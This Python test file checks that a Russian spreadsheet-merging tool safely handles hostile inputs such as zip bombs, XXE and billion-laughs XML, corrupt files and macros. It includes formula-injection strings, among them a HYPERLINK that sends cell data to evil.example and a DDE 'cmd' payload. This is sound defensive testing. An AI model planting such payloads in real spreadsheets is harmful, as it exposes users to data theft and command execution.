"""Issue 8: a corpus of hostile and broken inputs, each run through the whole ``tpcheck.merge``
and ``Result.write`` beside one good file.

Every case runs in a forked child process (``os.fork``), so that its wall time and its peak
memory — the child's and its read workers' together, as ``wait4`` reports them — are its own and
can be bounded, and so that a crash would take down only the child. For every case the test
asserts the exact behaviour (status of each input, the codes and cells of its findings, the rows
taken from it), that every finding has a Russian message naming its file (and its cell, in the
error report, where there is one), that the good file's rows are merged and are in the
consolidated workbook, and the bounds below.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import shutil
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import python_calamine
import xlsxwriter

import tpcheck
import tpcheck.reading.worker
from tpcheck.cells import column_letter
from tpcheck.findings import issue_types
from tpcheck.reading.discover import shown_path

from .conftest import ROOT
from .read_helpers import (
    BILLION_LAUGHS,
    CLASSIFIERS,
    HEADERS,
    KEYS,
    XXE,
    compound_file,
    declare_size,
    far_corner,
    hide_sheets,
    in_forked_child,
    inflate_part,
    quiet,
    rewrite_part,
    with_prolog,
    write_book,
    xlsxwriter_book,
)

TIME_BOUND = 30.0  # seconds for one merge + write, on a loaded 2-CPU machine
#: KiB of resident memory a run may add to the process it was forked from, at its peak in any
#: of its processes (the child and its read workers, which start as copies of it)
MEMORY_BOUND = 1536 * 1024
FIXTURES = ROOT / "tests" / "fixtures" / "hostile"
SHEET1 = "xl/worksheets/sheet1.xml"

pytestmark = pytest.mark.skipif(
    not hasattr(os, "fork") or not Path("/proc/self/statm").exists(),
    reason="the cases are measured in forked children (Linux)",
)
GOOD_ROWS = [3, 4]
CYRILLIC = re.compile("[А-Яа-яЁё]")


def _col(key: str) -> str:
    """The template's column letter of *key*."""
    return column_letter(KEYS.index(key))


def _required_missing(row: int) -> list[tuple[str, str]]:
    """required-missing on every required column of the template in Excel row *row*."""
    return [
        ("required-missing", f"{_col(c.key)}{row}")
        for c in tpcheck.load_classifiers().columns
        if c.required
    ]


# ------------------------------------------------------------------------------ builders
# Each builder makes the hostile inputs in *inbox* (sources it needs go to *scratch*) and returns
# the paths to merge after the good file.


def _book(path: Path, rows: int = 2, **layout: Any) -> Path:
    """A valid workbook of *rows* rows (Excel rows 3…) that draws no finding."""
    return write_book(path, [quiet(n) for n in range(1, rows + 1)], **layout)


def _text_book(path: Path, rows: list[list[Any]], **options: Any) -> Path:
    """*rows* from Excel row 2, every string written as a text cell (xlsxwriter)."""
    return xlsxwriter_book(path, rows, text=True, **options)


def _zip_bomb_declared(inbox: Path, scratch: Path) -> list[Path]:
    source = _book(scratch / "a.xlsx")
    return [declare_size(source, inbox / "бомба объявленная.xlsx", SHEET1, 3_000_000_000)]


def _zip_bomb_real(inbox: Path, scratch: Path) -> list[Path]:
    # 64 MB of spaces inside <sheetData>, deflated to about 65 KB
    return [
        inflate_part(_book(scratch / "a.xlsx"), inbox / "бомба.xlsx", SHEET1, 64, b"</sheetData>")
    ]


def _zip_bomb_lying(inbox: Path, scratch: Path) -> list[Path]:
    # the same bomb, its directory claiming 4 KB and the checksum of those 4 KB
    honest = inflate_part(
        _book(scratch / "a.xlsx"), scratch / "b.xlsx", SHEET1, 64, b"</sheetData>"
    )
    with zipfile.ZipFile(honest) as archive, archive.open(SHEET1) as stream:
        crc = zlib.crc32(stream.read(4096))
    return [declare_size(honest, inbox / "бомба с ложным каталогом.xlsx", SHEET1, 4096, crc)]


def _far_corner(inbox: Path, scratch: Path) -> list[Path]:
    return [far_corner(inbox / "угол XFD1048576.xlsx", 1, quiet)]


def _entities(part: str, prolog: bytes, entity: str, name: str):
    def build(inbox: Path, scratch: Path) -> list[Path]:
        source = _text_book(scratch / "a.xlsx", [quiet(1)])  # has xl/sharedStrings.xml
        return [with_prolog(source, inbox / name, part, prolog, entity)]

    return build


def _damaged(how: str):
    def build(inbox: Path, scratch: Path) -> list[Path]:
        data = _book(scratch / "a.xlsx").read_bytes()
        middle = len(data) // 2
        if how == "truncated":
            data = data[:middle]
        else:
            data = (
                data[:middle]
                + bytes(b ^ 0x5A for b in data[middle : middle + 400])
                + data[middle + 400 :]
            )
        path = inbox / f"{how}.xlsx"
        path.write_bytes(data)
        return [path]

    return build


def _bytes(name: str, data: bytes):
    def build(inbox: Path, scratch: Path) -> list[Path]:
        path = inbox / name
        path.write_bytes(data)
        return [path]

    return build


def _docx(inbox: Path, scratch: Path) -> list[Path]:
    path = inbox / "справка.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return [path]


def _copy(source: Path, name: str):
    def build(inbox: Path, scratch: Path) -> list[Path]:
        return [Path(shutil.copy(source, inbox / name))]

    return build


def _xlsm(inbox: Path, scratch: Path) -> list[Path]:
    project = compound_file(["_VBA_PROJECT", "dir", "PROJECT"])  # what vbaProject.bin holds
    return [_text_book(inbox / "с макросом.xlsm", [quiet(1)], vba=project)]


def _lock_file(inbox: Path, scratch: Path) -> list[Path]:
    path = inbox / "~$хороший.xlsx"
    path.write_bytes(b"\x0bIvanova I.I." + b"\x00" * 150)  # what Excel leaves: the owner's name
    return [path]


def _hidden(inbox: Path, scratch: Path) -> list[Path]:
    return [hide_sheets(_book(scratch / "a.xlsx"), inbox / "скрытые листы.xlsx")]


def _million_rows(inbox: Path, scratch: Path) -> list[Path]:
    rows = [quiet(n) for n in (1, 2, 3)]
    return [_text_book(inbox / "миллион строк.xlsx", rows, far={(1_048_575, 0): " "})]


def _columns(inbox: Path, scratch: Path) -> list[Path]:
    far = {(1, 16_383): "в последнем столбце"}
    return [_text_book(inbox / "16384 столбца.xlsx", [quiet(1)], far=far)]


LONG = "я" * 32_767


def _long_cell(inbox: Path, scratch: Path) -> list[Path]:
    return [_text_book(inbox / "длинный текст.xlsx", [quiet(1, procedure=LONG, client=LONG)])]


def _error_values(inbox: Path, scratch: Path) -> list[Path]:
    path = inbox / "ошибки формул.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("Перечень")
    sheet.write_row(0, 0, HEADERS)
    for col, value in enumerate(quiet(1)):
        if value is not None:
            sheet.write_string(1, col, value)
    sheet.write_formula(1, KEYS.index("procedure"), "=VLOOKUP(1,Z1:Z2,2,0)", None, "#N/A")
    sheet.write_formula(1, KEYS.index("note"), "=1/0", None, "#DIV/0!")
    sheet.write_formula(1, KEYS.index("basis"), "=#REF!", None, "#REF!")
    book.close()
    return [path]


def _formulas_without_values(inbox: Path, scratch: Path) -> list[Path]:
    # openpyxl saves formulas without a cached value
    row = quiet(1, note="=CONCATENATE(B3,C3)", location='=HYPERLINK("http://evil.example")')
    return [write_book(inbox / "формулы без значений.xlsx", [row])]


INJECTIONS = {
    "activity": '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "procedure": "+1",
    "basis": "-1",
    "subdivision": "=1+1",
}


def _formula_texts(inbox: Path, scratch: Path) -> list[Path]:
    return [_text_book(inbox / "формулы текстом.xlsx", [quiet(1, **INJECTIONS)])]


CONTROLS = {
    "touchpoint": "Портал\x07 госуслуг\x1b 1\x00",
    "procedure": "Круглосуточно\x0b\x0c\x1f",
    "channel": "\x01цифро\x02вая\x7f",
}


def _controls(inbox: Path, scratch: Path) -> list[Path]:
    return [_text_book(inbox / "управляющие символы.xlsx", [quiet(1, **CONTROLS)])]


def _surrogate_reference(inbox: Path, scratch: Path) -> list[Path]:
    # a lone surrogate as openpyxl writes it: a character reference no XML parser accepts
    def insert(xml: bytes) -> bytes:
        return xml.replace(
            b"</sheetData>",
            b'<row r="9"><c r="A9" t="inlineStr"><is><t>x&#55296;y</t></is></c></row></sheetData>',
        )

    source = _book(scratch / "a.xlsx")
    return [rewrite_part(source, inbox / "суррогат.xlsx", SHEET1, insert)]


def _surrogate_escape(inbox: Path, scratch: Path) -> list[Path]:
    # a lone surrogate as Excel stores it in a string: the escape _xD800_
    source = _text_book(scratch / "a.xlsx", [quiet(1, note="MARK")])
    path = inbox / "суррогат в строке.xlsx"
    return [
        rewrite_part(
            source,
            path,
            "xl/sharedStrings.xml",
            lambda xml: xml.replace(b"MARK", b"x_xD800_y_xDFFF_z"),
        )
    ]


def _undecodable_name(inbox: Path, scratch: Path) -> list[Path]:
    # a name in Windows-1251, as unzip leaves an archive made on Windows: not UTF-8, so Python
    # holds it with lone surrogates (surrogateescape)
    name = os.fsdecode("Отдел кадров.xlsx".encode("cp1251"))
    return [_book(inbox / name)]


INVISIBLES = {
    "client": "вне\u200bшний",
    "channel": "\u200fцифровая\u200e",
    "touchpoint_type": "\u2067портал\u00ad государственных\u200d услуг (ЕПГУ, РПГУ), "
    "платформа обратной связи\u2069",
    "operator": "\ufeffДепар\u200cтамент",
    "activity_kind": "\u202bсервис\u202c",
}


def _invisibles(inbox: Path, scratch: Path) -> list[Path]:
    return [_text_book(inbox / "невидимые символы.xlsx", [quiet(1, **INVISIBLES)])]


def _cyrillic_name(inbox: Path, scratch: Path) -> list[Path]:
    return [_book(inbox / "Отдел надзорной деятельности  (2 квартал) итог.xlsx")]


def _twice(inbox: Path, scratch: Path) -> list[Path]:
    path = _book(inbox / "отдел.xlsx")
    return [path, path]


def _same_content(inbox: Path, scratch: Path) -> list[Path]:
    path = _book(inbox / "отдел.xlsx")
    return [path, Path(shutil.copy(path, inbox / "отдел (копия).xlsx"))]


def _requirement_without_reference(inbox: Path, scratch: Path) -> list[Path]:
    # «№ строки» left empty on the only requirement row (validation used to crash on it)
    label = CLASSIFIERS["requirement"].by_code("4.2.7ж").label
    sheet = [[c.template_header for c in CLASSIFIERS.requirement_columns], [None, label, "10"]]
    path = inbox / "требования без номера строки.xlsx"
    return [_book(path, others={CLASSIFIERS.sheets.requirements: sheet})]


def _changing(inbox: Path, scratch: Path) -> list[Path]:
    return [_book(inbox / "сохраняется.xlsx")]


def _saved_while_read(paths: list[Path]) -> None:
    """Make the reader's first look at the file (its size and time) be followed by the clerk
    saving it again: the bytes read are then not what is on disk."""
    target = str(paths[0])
    stat = tpcheck.reading.worker._stat

    def stat_then_save(path: str) -> tuple[int, int]:
        seen = stat(path)
        if path == target and not saved:
            saved.append(path)
            with open(path, "ab") as handle:
                handle.write(b"\x00")
        return seen

    saved: list[str] = []
    tpcheck.reading.worker._stat = stat_then_save


# ------------------------------------------------------------------------------ the corpus


@dataclass(frozen=True)
class Case:
    """One hostile input: *name* (the test id), *what* it is (in Russian); *build* makes it;
    *files* — (status, rows) of each input built, in order; *findings* — (code, cell) of their
    findings in report order; *rows* — the Excel rows taken from them; *mentions* — texts the
    first finding's message must hold; *prepare* runs in the child before the merge; *check*
    gets the outcome for more assertions."""

    name: str
    what: str
    build: Callable[[Path, Path], list[Path]]
    files: list[tuple[str, int]]
    findings: list[tuple[str, str | None]]
    rows: list[int]
    mentions: tuple[str, ...] = ()
    prepare: Callable[[list[Path]], None] | None = None
    check: Callable[[Outcome], None] | None = None


UNREADABLE = [("unreadable", 0)]


def _check_long(outcome: Outcome) -> None:
    frame = outcome.bad_rows()
    assert frame.loc[0, "procedure"] == LONG and frame.loc[0, "client_raw"] == LONG
    sheet = outcome.consolidated()
    header = sheet[0]
    row = next(r for r in sheet[1:] if r[header.index("Файл")] == outcome.bad[0])
    assert row[KEYS.index("procedure")] == LONG and row[KEYS.index("client")] == LONG
    # the message stays readable: the value is shortened in it, whole in its own field
    found = outcome.bad_issues()
    assert [i["value"] == LONG and len(i["message"]) < 500 for i in found] == [True] * 3
    assert "«" + "я" * 200 + "…» нет в списке" in found[1]["message"]


def _check_formula_texts(outcome: Outcome) -> None:
    frame = outcome.bad_rows()
    for key, text in INJECTIONS.items():
        assert frame.loc[0, key] == text and frame.loc[0, key + "_raw"] == text


def _check_controls(outcome: Outcome) -> None:
    frame = outcome.bad_rows()
    assert frame.loc[0, "touchpoint"] == "Портал госуслуг 1"
    assert frame.loc[0, "channel"] == "цифровая"
    for key, text in CONTROLS.items():
        assert frame.loc[0, key + "_raw"] == text


def _check_surrogate_escape(outcome: Outcome) -> None:
    assert outcome.bad_rows().loc[0, "note"] == "x_xD800_y_xDFFF_z"


def _check_invisibles(outcome: Outcome) -> None:
    frame = outcome.bad_rows()
    expected = dict(zip(KEYS, quiet(1), strict=True))
    for key, text in INVISIBLES.items():
        assert frame.loc[0, key] == expected[key] and frame.loc[0, key + "_raw"] == text


def _check_return_copy(name: str) -> Callable[[Outcome], None]:
    def check(outcome: Outcome) -> None:
        assert f"vozvrat/{name}" in outcome.written

    return check


CORPUS: list[Case] = [
    Case(
        "zip-bomb-declared",
        "zip-бомба: каталог объявляет 2,8 ГБ",
        _zip_bomb_declared,
        UNREADABLE,
        [("file-too-large", None)],
        [],
        ("sheet1.xml", "2,8 ГБ"),
    ),
    Case(
        "zip-bomb-real",
        "zip-бомба: 64 МБ пробелов в листе сжаты в 65 КБ",
        _zip_bomb_real,
        UNREADABLE,
        [("file-too-large", None)],
        [],
        ("sheet1.xml", "сжата в", "64,0 МБ"),
    ),
    Case(
        "zip-bomb-lying",
        "zip-бомба: каталог занижает размер и подделывает контрольную сумму",
        _zip_bomb_lying,
        UNREADABLE,
        [("file-unreadable", None)],
        [],
        ("архив поврежден",),
    ),
    Case(
        "far-corner",
        "ячейки в A1 и XFD1048576 (python-calamine аварийно завершается, calamine #693)",
        _far_corner,
        [("ok", 2)],
        [("column-unknown", "XFD1"), *_required_missing(1_048_576)],
        [2, 1_048_576],
    ),
    Case(
        "billion-laughs-sheet",
        "billion laughs в листе",
        _entities(SHEET1, BILLION_LAUGHS, "lol9", "сущности в листе.xlsx"),
        UNREADABLE,
        [("file-unsafe-xml", None)],
        [],
        ("«xl/worksheets/sheet1.xml»",),
    ),
    Case(
        "billion-laughs-shared-strings",
        "billion laughs в sharedStrings",
        _entities("xl/sharedStrings.xml", BILLION_LAUGHS, "lol9", "сущности в строках.xlsx"),
        UNREADABLE,
        [("file-unsafe-xml", None)],
        [],
        ("«xl/sharedStrings.xml»",),
    ),
    Case(
        "xxe",
        "внешняя сущность (XXE)",
        _entities(SHEET1, XXE, "xxe", "внешняя сущность.xlsx"),
        UNREADABLE,
        [("file-unsafe-xml", None)],
        [],
        ("«xl/worksheets/sheet1.xml»",),
    ),
    Case(
        "corrupt-zip",
        "испорченный zip",
        _damaged("garbled"),
        UNREADABLE,
        [("file-unreadable", None)],
        [],
        ("поврежден",),
    ),
    Case(
        "truncated-zip",
        "обрезанный zip",
        _damaged("truncated"),
        UNREADABLE,
        [("file-unreadable", None)],
        [],
        ("поврежден или обрезан",),
    ),
    Case(
        "empty-file",
        "пустой файл",
        _bytes("пустой.xlsx", b""),
        UNREADABLE,
        [("file-empty", None)],
        [],
    ),
    Case(
        "zero-row-template",
        "шаблон без строк",
        _copy(ROOT / "templates" / "perechen_template.xlsx", "шаблон без строк.xlsx"),
        [("ok", 0)],
        [("no-data-rows", None)],
        [],
    ),
    Case(
        "txt-renamed",
        "текст под именем .xlsx",
        _bytes("письмо.xlsx", "Добрый день! Перечень во вложении.\r\n".encode()),
        UNREADABLE,
        [("file-not-spreadsheet", None)],
        [],
        ("текстовый файл", "«письмо.xlsx»"),
    ),
    Case(
        "csv-renamed",
        "CSV под именем .xlsx",
        _bytes("таблица.xlsx", "№;Точка взаимодействия\r\n1;Сайт\r\n".encode("cp1251")),
        UNREADABLE,
        [("file-not-spreadsheet", None)],
        [],
        ("текстовый файл",),
    ),
    Case(
        "docx-renamed",
        "документ Word под именем .xlsx",
        _docx,
        UNREADABLE,
        [("file-not-spreadsheet", None)],
        [],
        ("документ Word",),
    ),
    Case(
        "pdf-renamed",
        "PDF под именем .xlsx",
        _bytes("скан.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        UNREADABLE,
        [("file-not-spreadsheet", None)],
        [],
        ("PDF-документ",),
    ),
    Case(
        "encrypted",
        "книга с паролем на открытие",
        _copy(FIXTURES / "s_parolem.xlsx", "с паролем.xlsx"),
        UNREADABLE,
        [("file-encrypted", None)],
        [],
        ("паролем",),
    ),
    Case(
        "xls-renamed",
        "старая книга .xls под именем .xlsx",
        _copy(FIXTURES / "staryj_format.xls", "старый формат.xlsx"),
        [("ok", 2)],
        # the old book's rows are two services with only their site each (п. 3.8 4))
        [
            ("file-format-mismatch", None),
            ("no-offline-alternative", "C3"),
            ("no-offline-alternative", "C4"),
        ],
        [3, 4],
        (".xls",),
    ),
    Case(
        "xlsm-macro",
        ".xlsm с макросом (vbaProject.bin)",
        _xlsm,
        [("ok", 1)],
        [("file-macros", None)],
        [2],
        ("не запускал",),
    ),
    Case("lock-file", "файл блокировки Excel ~$", _lock_file, [("skipped", 0)], [], []),
    Case(
        "hidden-sheets",
        "все листы скрыты",
        _hidden,
        [("ok", 2)],
        [("sheet-hidden", None)],
        [3, 4],
        ("скрыт",),
    ),
    Case(
        "million-rows",
        "1 048 576 строк, из них 3 с данными",
        _million_rows,
        [("ok", 3)],
        [],
        [2, 3, 4],
    ),
    Case(
        "16384-columns",
        "16 384 столбца",
        _columns,
        [("ok", 1)],
        [("column-unknown", "XFD1")],
        [2],
    ),
    Case(
        "32767-characters",
        "ячейки по 32 767 символов",
        _long_cell,
        [("ok", 1)],
        [("text-too-long", "E2"), ("value-not-in-list", "E2"), ("text-too-long", "K2")],
        [2],
        check=_check_long,
    ),
    Case(
        "formula-errors",
        "ошибки формул (#N/A, #DIV/0!, #REF!)",
        _error_values,
        [("ok", 1)],
        [
            ("cell-error-value", "K2"),
            ("cell-error-value", "M2"),
            ("cell-error-value", "Q2"),
        ],
        [2],
    ),
    Case(
        "formulas-without-values",
        "формулы без сохраненных значений",
        _formulas_without_values,
        [("ok", 1)],
        [("formula-no-value", "I3"), ("formula-no-value", "Q3")],
        [3],
    ),
    Case(
        "formula-texts",
        "текст вида =HYPERLINK(, @SUM(, +1, -1, =1+1",
        _formula_texts,
        [("ok", 1)],
        [],
        [2],
        check=_check_formula_texts,
    ),
    Case(
        "control-characters",
        "управляющие символы",
        _controls,
        [("ok", 1)],
        [],
        [2],
        check=_check_controls,
    ),
    Case(
        "surrogate-reference",
        "одиночный суррогат ссылкой &#55296; (так пишет openpyxl)",
        _surrogate_reference,
        UNREADABLE,
        [("file-unreadable", None)],
        [],
        ("разметка",),
    ),
    Case(
        "surrogate-escape",
        "одиночный суррогат экранированием _xD800_ (так хранит Excel)",
        _surrogate_escape,
        [("ok", 1)],
        [],
        [2],
        check=_check_surrogate_escape,
    ),
    Case(
        "undecodable-name",
        "имя файла в Windows-1251 (одиночные суррогаты в пути)",
        _undecodable_name,
        [("ok", 2)],
        [],
        [3, 4],
    ),
    Case(
        "invisible-marks",
        "знаки направления письма и нулевой ширины в значениях классификаторов",
        _invisibles,
        [("ok", 1)],
        [],
        [2],
        check=_check_invisibles,
    ),
    Case(
        "cyrillic-name",
        "имя файла кириллицей с пробелами",
        _cyrillic_name,
        [("ok", 2)],
        [],
        [3, 4],
        check=_check_return_copy("Отдел_надзорной_деятельности_(2_квартал)_итог_zamechaniya.xlsx"),
    ),
    Case(
        "same-file-twice",
        "один и тот же файл дважды",
        _twice,
        [("ok", 2), ("skipped", 0)],
        [("file-duplicate", None)],
        [3, 4],
    ),
    Case(
        "same-content",
        "копия файла под другим именем",
        _same_content,
        [("ok", 2), ("skipped", 0)],
        [("file-duplicate", None)],
        [3, 4],
        ("отдел (копия).xlsx»",),
    ),
    Case(
        "requirement-without-reference",
        "строка листа «Требования п. 4.2» без номера строки",
        _requirement_without_reference,
        [("ok", 2)],
        [("required-missing", "A2")],
        [3, 4],
    ),
    Case(
        "changed-while-read",
        "файл изменился, пока его читали",
        _changing,
        UNREADABLE,
        [("file-changed", None)],
        [],
        ("изменился",),
        prepare=_saved_while_read,
    ),
]


# ------------------------------------------------------------------------------ running


@dataclass
class Outcome:
    """What a case's child process reported, and what it cost."""

    good: str
    bad: list[str]
    out: Path
    report: dict[str, Any]
    frame: Any
    written: list[str]
    seconds: float
    grown_kib: int  # resident memory added at the peak, in the child or its read workers
    inputs_before: dict[str, str] = field(default_factory=dict)

    def bad_issues(self) -> list[dict[str, Any]]:
        return [i for i in self.report["issues"] if i["file"] in self.bad]

    def bad_rows(self):
        rows = self.frame[self.frame["source_file"].isin(self.bad)]
        return rows.reset_index(drop=True)

    def consolidated(self) -> list[list[Any]]:
        book = python_calamine.CalamineWorkbook.from_path(str(self.out / "perechen_svodny.xlsx"))
        return book.get_sheet_by_name("Перечень").to_python()


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run_case(case: Case, folder: Path) -> Outcome:
    """Build *case* in *folder* and merge it beside a good file in a forked child."""
    inbox, scratch, out = folder / "вход", folder / "заготовки", folder / "результат"
    inbox.mkdir()
    scratch.mkdir()
    good = write_book(inbox / "хороший.xlsx", [quiet(101), quiet(102)])
    bad = case.build(inbox, scratch)
    before = {str(p): _digest(p) for p in [good, *bad] if p.exists()}

    def merge_and_write() -> dict[str, Any]:
        if case.prepare is not None:
            case.prepare(bad)
        result = tpcheck.merge([good, *bad])
        written = result.write(out)
        frame = result.frame.copy()
        frame.attrs.clear()
        return {
            "report": result.report.to_dict(),
            "frame": frame,
            "written": [p.relative_to(out).as_posix() for p in written],
        }

    payload, seconds, grown = in_forked_child(merge_and_write)
    return Outcome(
        good=str(good),
        bad=[shown_path(str(p)) for p in bad],
        out=out,
        report=payload["report"],
        frame=payload["frame"],
        written=payload["written"],
        seconds=seconds,
        grown_kib=grown,
        inputs_before=before,
    )


def _csv_rows(out: Path) -> list[dict[str, str]]:
    text = (out / "oshibki.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(text.splitlines(), delimiter=";"))


@pytest.fixture(scope="module", autouse=True)
def _warm(tmp_path_factory) -> None:
    """One merge in this process before the cases fork from it: what every run loads once (the
    schemas, the templates of the writers) is then inherited, not paid again by each case."""
    folder = tmp_path_factory.mktemp("warm")
    tpcheck.merge(write_book(folder / "a.xlsx", [quiet(1)])).write(folder / "out")


@pytest.mark.parametrize("case", CORPUS, ids=[case.name for case in CORPUS])
def test_hostile_input(case: Case, tmp_path):
    outcome = run_case(case, tmp_path)
    assert outcome.seconds < TIME_BOUND, f"{outcome.seconds:.1f} s"
    grown = outcome.grown_kib
    assert grown < MEMORY_BOUND, f"{grown // 1024} MB above what the test process held"
    print(f"{case.name}: {outcome.seconds:.2f} s, peak +{grown // 1024} MB")

    files = outcome.report["files"]
    assert [(f["status"], f["rows"]) for f in files] == [("ok", 2), *case.files]
    assert [f["path"] for f in files] == [outcome.good, *outcome.bad]

    issues = outcome.report["issues"]
    assert [i for i in issues if i["file"] == outcome.good] == []
    found = outcome.bad_issues()
    assert [(i["code"], i["cell"]) for i in found] == case.findings
    assert len(found) == len(issues)  # nothing else: no finding without a file
    kinds = issue_types()
    report_rows = _csv_rows(outcome.out)
    for item in found:
        assert CYRILLIC.search(item["message"]), item
        if kinds[item["code"]].scope == "file":
            assert f"«{item['file']}»" in item["message"], item
        else:
            assert item["cell"] is not None, item
        # the error report names the file and the cell beside the message
        assert any(
            r["Файл"] == item["file"]
            and r["Ячейка"] == (item["cell"] or "")
            and r["Код"] == item["code"]
            and r["Замечание"] == item["message"]
            for r in report_rows
        ), item
    for text in case.mentions:
        assert text in found[0]["message"], (text, found[0]["message"])

    provenance = list(zip(outcome.frame["source_file"], outcome.frame["source_row"], strict=True))
    assert provenance == [(outcome.good, r) for r in GOOD_ROWS] + [
        (outcome.bad[0], r) for r in case.rows
    ]
    assert set(outcome.frame["source_sheet"]) <= {"Перечень"}
    sheet = outcome.consolidated()
    header = sheet[0]
    where = [header.index(name) for name in ("Файл", "Строка")]
    assert [(r[where[0]], int(r[where[1]])) for r in sheet[1:]] == provenance
    if case.prepare is None:  # inputs are only read
        assert {path: _digest(Path(path)) for path in outcome.inputs_before} == (
            outcome.inputs_before
        )
    if case.check is not None:
        case.check(outcome)
